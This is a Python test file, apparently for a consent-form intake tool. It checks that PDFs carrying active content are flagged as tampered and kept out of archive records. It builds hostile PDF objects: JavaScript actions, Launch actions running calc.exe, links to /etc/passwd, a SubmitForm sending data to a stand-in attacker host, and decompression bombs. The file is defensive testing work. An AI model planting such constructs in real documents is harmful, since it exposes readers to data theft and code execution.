"""Issue 20, finding 4: active content in a returned form is reported, never called clear,
and never reaches the archive's record.

Each kind is put onto a real filled form with pikepdf (as an attacker would), so a new kind
added to KINDS is checked by every test of the class.
"""

from __future__ import annotations

import io
import json
import warnings
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader
from pypdf.generic import StreamObject

from handouts.intake.active import find_active, reachable
from handouts.intake.archive import build_record
from handouts.intake.screen import read_form, screen_path

from helpers import fill_form, render_page_png, run_cli

IDS = ["pregnancy", "metal-allergy"]
ALL_NO_SIGNED = {
    **{f"contraindication.{i}": "/no" for i in IDS},
    "consent.agree": "/Yes",
    "patient.name": "Jane Doe",
    "patient.signature": "Jane Doe",
    "patient.date": "2026-12-01",
}


def _js(pdf: pikepdf.Pdf) -> Any:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _annotate(pdf: pikepdf.Pdf, annot: Dictionary) -> None:
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = Array()
    annot.Type = Name.Annot
    annot.Rect = Array([10, 10, 60, 20])
    page.Annots.append(pdf.make_indirect(annot))


def _link(action: Callable[[pikepdf.Pdf], Any]) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: _annotate(pdf, Dictionary(Subtype=Name.Link, A=action(pdf)))


def _names(pdf: pikepdf.Pdf) -> Any:
    if "/Names" not in pdf.Root:
        pdf.Root.Names = Dictionary()
    return pdf.Root.Names


def _field_widget(pdf: pikepdf.Pdf, name: str) -> Any:
    for page in pdf.pages:
        for annot in page.obj.get("/Annots", []):
            parent = annot.get("/Parent")
            if str(annot.get("/T", "")) == name or (parent is not None and str(parent.get("/T", "")) == name):
                return annot
    raise AssertionError(name)


def _embedded(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ not a consent form", mime_type="application/octet-stream")
    pdf.attachments["tool.exe"] = spec


def _outline(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Start"), A=_js(pdf)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def _set(path: tuple[str, ...], value: Callable[[pikepdf.Pdf], Any]) -> Callable[[pikepdf.Pdf], None]:
    def put(pdf: pikepdf.Pdf) -> None:
        target = pdf.Root
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value(pdf)

    return put


def _internal_goto(pdf: pikepdf.Pdf) -> Any:
    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))


# Each kind of active content, and how an attacker puts it onto a filled form.
KINDS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "document JavaScript": lambda pdf: _names(pdf).__setitem__(
        "/JavaScript", Dictionary(Names=Array([String("x"), _js(pdf)]))
    ),
    "OpenAction JavaScript": _set(("/OpenAction",), _js),
    "OpenAction Launch": _set(("/OpenAction",), lambda pdf: Dictionary(S=Name.Launch, F=String("calc.exe"))),
    "OpenAction to another file": _set(
        ("/OpenAction",),
        lambda pdf: Dictionary(S=Name.GoToR, F=String("/etc/passwd"), D=Array([0, Name.Fit])),
    ),
    "catalog /AA": _set(("/AA",), lambda pdf: Dictionary(WC=_js(pdf))),
    "page /AA": lambda pdf: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=_js(pdf))),
    "field /AA": lambda pdf: _field_widget(pdf, "name").__setitem__("/AA", Dictionary(K=_js(pdf))),
    "widget SubmitForm": lambda pdf: _field_widget(pdf, "name").__setitem__(
        "/A", Dictionary(S=Name.SubmitForm, F=String("https://attacker.example.org/"))
    ),
    "link ImportData": _link(lambda pdf: Dictionary(S=Name.ImportData, F=String("answers.fdf"))),
    "link GoToR": _link(lambda pdf: Dictionary(S=Name.GoToR, F=String("../../secret.pdf"), D=Array([0]))),
    "link GoToE": _link(lambda pdf: Dictionary(S=Name.GoToE, D=Array([0, Name.Fit]))),
    "link Launch": _link(lambda pdf: Dictionary(S=Name.Launch, F=String("calc.exe"))),
    "link javascript: URI": _link(lambda pdf: Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)"))),
    "link file: URI": _link(lambda pdf: Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
    "link GoTo then JavaScript": _link(lambda pdf: Dictionary(**_internal_goto(pdf), Next=_js(pdf))),
    "XFA": _set(("/AcroForm", "/XFA"), lambda pdf: pdf.make_stream(b"<xdp:xdp/>")),
    "embedded file": _embedded,
    "file attachment annotation": lambda pdf: _annotate(pdf, Dictionary(Subtype=Name.FileAttachment)),
    "screen annotation": lambda pdf: _annotate(pdf, Dictionary(Subtype=Name.Screen, A=_js(pdf))),
    "widget of no field": lambda pdf: _annotate(
        pdf, Dictionary(Subtype=Name.Widget, FT=Name.Tx, T=String("extra"), V=String("x"))
    ),
    "outline JavaScript": _outline,
}


@pytest.fixture(scope="module")
def filled(module_built: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    form = module_built / "out/tiny/en/tiny-consent-fillable.pdf"
    return fill_form(form, tmp_path_factory.mktemp("active") / "filled.pdf", ALL_NO_SIGNED)


def hostile(filled: Path, dest: Path, kind: str) -> Path:
    with pikepdf.open(filled) as pdf, warnings.catch_warnings():
        # pikepdf warns of a widget that belongs to no field: that is the attack.
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
        KINDS[kind](pdf)
        pdf.save(dest)
    return dest


class TestActiveContent:
    @pytest.mark.parametrize("kind", list(KINDS))
    def test_screen_calls_it_tampered_and_names_it(
        self, module_built: Path, filled: Path, tmp_path: Path, kind: str
    ) -> None:
        path = hostile(filled, tmp_path / "form.pdf", kind)
        code, out, err = run_cli(module_built, "screen", str(path))
        assert code == 5, (out, err)
        assert "TAMPERED" in out and "carries what a filled consent form never does" in out + err
        code, out, _ = run_cli(module_built, "screen", "--json", str(path))
        data = json.loads(out)
        assert data["status"] == "tampered" and data["active_content"], data
        assert all(item in data["error"] for item in data["active_content"])

    @pytest.mark.parametrize("kind", list(KINDS))
    def test_archive_refuses_it(self, module_built: Path, filled: Path, tmp_path: Path, kind: str) -> None:
        path = hostile(filled, tmp_path / "form.pdf", kind)
        code, _, err = run_cli(module_built, "archive", str(path))
        assert code == 5 and "not archived" in err, err
        assert not (tmp_path / "form-archive.pdf").exists()

    @pytest.mark.parametrize("kind", list(KINDS))
    def test_the_record_keeps_none_of_it(self, filled: Path, tmp_path: Path, kind: str) -> None:
        # Should a verdict let such a form be archived, its record still carries none of it.
        path = hostile(filled, tmp_path / "form.pdf", kind)
        info = read_form(path)[0]
        record, _, drawn = build_record(path.read_bytes(), None, info, None)
        assert drawn == build_record(filled.read_bytes(), None, info, None)[2]  # every answer drawn
        reader = PdfReader(io.BytesIO(record))
        # The one embedded file is the original form, as it came (README says so).
        assert list(reader.attachments) == ["tiny-consent-filled.pdf"]
        assert reader.attachments["tiny-consent-filled.pdf"][0] == path.read_bytes()
        assert find_active(reader.trailer["/Root"]) == ["embedded files"]
        assert all("/Annots" not in page or not page["/Annots"] for page in reader.pages)


def test_a_genuine_form_with_web_and_internal_links_stays_clear(
    module_built: Path, filled: Path, tmp_path: Path
) -> None:
    with pikepdf.open(filled) as pdf:
        _link(lambda pdf: Dictionary(S=Name.URI, URI=String("https://example.org/")))(pdf)
        _link(_internal_goto)(pdf)
        pdf.save(tmp_path / "links.pdf")
    assert screen_path(tmp_path / "links.pdf", module_built).status == "clear"
    assert screen_path(filled, module_built).active_content == []


# --- the record draws the answers itself: the sender's appearance streams are not copied ---------

BLACK_BOX = b"0 g -500 -500 2000 2000 re f"


def _replace_appearances(pdf: pikepdf.Pdf, data: bytes, compress: bool = False) -> None:
    """Every widget's every appearance becomes the attacker's stream (a black box, or a bomb)."""
    for page in pdf.pages:
        for annot in page.obj.get("/Annots", []):
            if "/AP" not in annot:
                continue
            normal = annot.AP.N
            streams = {key: normal[key] for key in normal} if isinstance(normal, Dictionary) else None
            for key in streams or [None]:
                stream = pdf.make_stream(zlib.compress(data, 9) if compress else data)
                if compress:
                    stream.Filter = Name.FlateDecode
                stream.BBox = Array([0, 0, 1000, 1000])
                stream.Type, stream.Subtype = Name.XObject, Name.Form
                if key is None:
                    annot.AP.N = stream
                else:
                    normal[key] = stream


def _pages_look_alike(a: bytes, b: bytes, tmp_path: Path) -> bool:
    from PIL import Image, ImageChops

    (tmp_path / "a.pdf").write_bytes(a)
    (tmp_path / "b.pdf").write_bytes(b)
    for number in range(1, len(PdfReader(io.BytesIO(a)).pages) + 1):
        first = render_page_png(tmp_path / "a.pdf", tmp_path / f"a{number}", number)
        second = render_page_png(tmp_path / "b.pdf", tmp_path / f"b{number}", number)
        with Image.open(first) as one, Image.open(second) as two:
            if ImageChops.difference(one.convert("L"), two.convert("L")).getbbox() is not None:
                return False
    return True


class TestAppearancesDrawnAnew:
    def test_the_senders_streams_are_not_painted(self, filled: Path, tmp_path: Path) -> None:
        with pikepdf.open(filled) as pdf:
            _replace_appearances(pdf, BLACK_BOX)
            pdf.save(tmp_path / "boxes.pdf")
        info = read_form(filled)[0]
        genuine = build_record(filled.read_bytes(), None, info, None)[0]
        boxed = build_record((tmp_path / "boxes.pdf").read_bytes(), None, info, None)[0]
        assert _pages_look_alike(genuine, boxed, tmp_path)  # the same answers, drawn the same
        assert b"2000 2000 re" not in boxed.replace(read_attachment(boxed), b"")

    def test_an_appearance_bomb_is_never_decoded(self, filled: Path, tmp_path: Path) -> None:
        with pikepdf.open(filled) as pdf:
            _replace_appearances(pdf, b"0 g " * 25_000_000, compress=True)  # 100 MB each, decoded
            pdf.save(tmp_path / "bomb.pdf")
        info = read_form(filled)[0]
        record = build_record((tmp_path / "bomb.pdf").read_bytes(), None, info, None)[0]
        reader = PdfReader(io.BytesIO(record))
        sizes = [
            len(obj.get_data())
            for obj in reachable(reader.trailer["/Root"])
            if isinstance(obj, StreamObject) and obj.get("/Type") != "/EmbeddedFile"
        ]
        assert sizes and max(sizes) < 1_000_000

    def test_a_page_content_bomb_is_refused_in_one_line(
        self, module_built: Path, filled: Path, tmp_path: Path
    ) -> None:
        with pikepdf.open(filled) as pdf:
            bomb = pdf.make_stream(zlib.compress(b"0 g " * 15_000_000, 9))  # 60 MB decoded
            bomb.Filter = Name.FlateDecode
            pdf.pages[0].obj.Contents = Array([*pdf.pages[0].obj.Contents.wrap_in_array(), bomb])
            pdf.save(tmp_path / "content-bomb.pdf")
        code, out, err = run_cli(module_built, "archive", str(tmp_path / "content-bomb.pdf"))
        assert code == 2 and "more than 50 MB once decoded" in err and len(err.splitlines()) == 1, err
        assert not (tmp_path / "content-bomb-archive.pdf").exists()


def read_attachment(record: bytes) -> bytes:
    return next(iter(PdfReader(io.BytesIO(record)).attachments.values()))[0]
